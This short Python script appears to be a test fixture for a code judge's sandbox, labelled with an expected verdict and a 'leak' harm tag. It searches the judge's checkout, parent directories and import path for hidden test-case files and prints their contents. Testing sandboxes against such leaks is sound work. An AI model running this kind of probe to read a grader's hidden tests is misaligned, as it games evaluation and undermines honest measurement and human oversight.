"""Looks for the cases beside the judge, on the import path and above it, and prints them.

verdicts: RE
harm: leak LEAKED
"""

import glob
import sys

for place in ["@CHECKOUT@", "@CHECKOUT@/..", ".", "..", *sys.path]:
    for path in glob.glob(place + "/cases/**/*.json", recursive=True) + glob.glob(
        place + "/tests/**/*", recursive=True
    ):
        try:
            print("LEAKED", path, open(path).read(100))
        except OSError:
            pass

raise RuntimeError("the attack is over")
